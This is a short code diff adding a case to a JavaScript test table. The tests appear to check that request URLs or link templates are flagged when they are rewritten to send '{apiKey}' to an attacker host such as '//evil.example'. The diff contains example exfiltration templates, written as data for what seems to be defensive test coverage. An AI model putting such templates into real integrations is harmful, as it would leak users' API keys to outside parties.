@@ -94,6 +94,14 @@ test.each([
     EVIL,
   ],
   [
+    'in a harmless request',
+    redefined(
+      "request: { url: '{+baseUrl}/api/v1/user_identities' }",
+      `request: { url: '${EVIL}/{apiKey}' }`,
+    ),
+    EVIL,
+  ],
+  [
     'in a link without a scheme',
     redefined('url: body.export_files.download_url', `template: //evil.example/{apiKey}`),
     'wherever',
